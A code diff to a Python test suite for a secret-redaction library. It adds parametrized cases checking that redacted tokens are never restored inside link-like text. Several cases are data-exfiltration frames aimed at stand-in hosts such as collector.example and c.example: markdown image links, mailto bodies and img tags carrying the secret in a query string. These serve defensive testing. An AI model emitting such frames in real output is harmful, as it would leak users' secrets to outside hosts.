@@ -65,7 +65,17 @@ def test_own_placeholders_stay_when_a_text_is_redacted_again() -> None:
 
 
 @pytest.mark.parametrize(
-    "frame", ["![x](https://collector.example/?d={})", "see //c.example/{}", "[a]({})"]
+    "frame",
+    [
+        "![x](https://collector.example/?d={})",
+        "see //c.example/{}",
+        "[a]({})",
+        "see www.c.example/?d={}",
+        "c.example/{}",
+        "mailto:x@c.example?body={}",
+        "[a](<https://c.example/?d= {}>)",
+        '<img src="https://c.example/?d= {}">',
+    ],
 )
 def test_nothing_is_put_back_into_an_address(frame: str) -> None:
     taken = redact(f"token {MAIL}", KEY)
@@ -84,7 +94,7 @@ def test_json_is_restored_in_texts_and_not_in_keys() -> None:
     redactor = Redactor(KEY)
     made = redactor.redact(MAIL)
 
-    found = redactor.restore_json({made: [made, 3, None, {"to": f"<{made}>"}]})
+    found = redactor.tell_json({made: [made, 3, None, {"to": f"<{made}>"}]})
 
     assert found == {made: [MAIL, 3, None, {"to": f"<{MAIL}>"}]}
 
@@ -93,7 +103,7 @@ def test_json_is_restored_in_texts_and_not_in_keys() -> None:
 def test_what_was_taken_out_comes_back_whatever_it_was(text: str) -> None:
     taken = redact(text, KEY)
 
-    if "://" not in text and "//" not in text and "](" not in text:
+    if not any(part in text for part in ("://", "//", "](", "www.", "mailto:")):
         assert taken.restore(taken.text) == text
 
 
